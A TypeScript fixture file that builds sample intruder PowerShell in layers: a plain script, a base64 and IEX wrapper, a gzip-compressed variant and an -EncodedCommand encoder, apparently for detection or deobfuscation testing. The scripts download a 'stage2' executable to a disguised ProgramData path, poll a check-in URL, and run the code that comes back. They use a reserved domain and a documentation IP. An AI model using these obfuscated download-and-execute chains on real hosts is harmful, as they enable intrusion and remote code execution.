/**
 * What the intruder's PowerShell says, layer by layer. All of it is inert: the domain is reserved and the address is a
 * documentation one.
 */
export const INNER_SCRIPT = [
  "$c='198.51.100.77'",
  "$u='https://cdn.brindlefoss.example.net/updates/stage2.bin'",
  "$p='C:\\ProgramData\\PrintCache\\spoolprep.exe'",
  "New-Item -ItemType Directory -Force 'C:\\ProgramData\\PrintCache' | Out-Null",
  '(New-Object Net.WebClient).DownloadFile($u,$p)',
  'Test-NetConnection $c -Port 443 | Out-Null',
].join(';');

export const OUTER_SCRIPT = `$d='${Buffer.from(INNER_SCRIPT, 'utf8').toString('base64')}';IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($d)))`;

export const COMPRESSED_SCRIPT = [
  "$a='198.51.100.77';$q='http://198.51.100.77/api/v2/checkin?id=WEB01'",
  '$w=New-Object Net.WebClient',
  "$w.Headers.Add('X-Session','b41f')",
  '$r=$w.DownloadString($q)',
  'if($r){Invoke-Command -ScriptBlock ([ScriptBlock]::Create($r))}',
  "Start-Process 'C:\\ProgramData\\PrintCache\\spoolprep.exe' -ArgumentList '-k cdn.brindlefoss.example.net'",
  '',
].join('\n');

/** `COMPRESSED_SCRIPT` through gzip: kept as bytes because compressors differ between releases of Node. */
export const COMPRESSED_BASE64 =
  'H4sIAAAAAAACA1WPUUvDMBSF3/sr8lBICyZdRZlWimydoCBT6MME50Oa3G2xbZIl11UQ/7vxTd/O4XyHe08qalpeX/HLkpezGZ/P6U16rOkB0VVF8S8phNPF6byQB5C9Nrda1Zu75aykSTrVa5jYU/cOEskakG+gawYNBmPG70Eo8IEvlMroC2shBG0NPaPdRbmjeZL6OlIrO5nBCtWi12afpcc80bss9fnXgznZHlhjx1EYRVgrvXa4HKzsSfb6x71VVeNBIPzW8u+kReGRPXsr40lCm2ob9d6LcSVQRK0NNiLO2QZn7eA8OA6fQAlb+P3HGL9/1AEJZT2RyvAu8mqAnQ0hYmJ0A3ADSJMfTfvvnkQBAAA=';

export const COMPRESSED_OUTER_SCRIPT = `$z='${COMPRESSED_BASE64}';$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String($z));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;

/** As `powershell.exe -EncodedCommand` takes it. */
export function encodeCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}
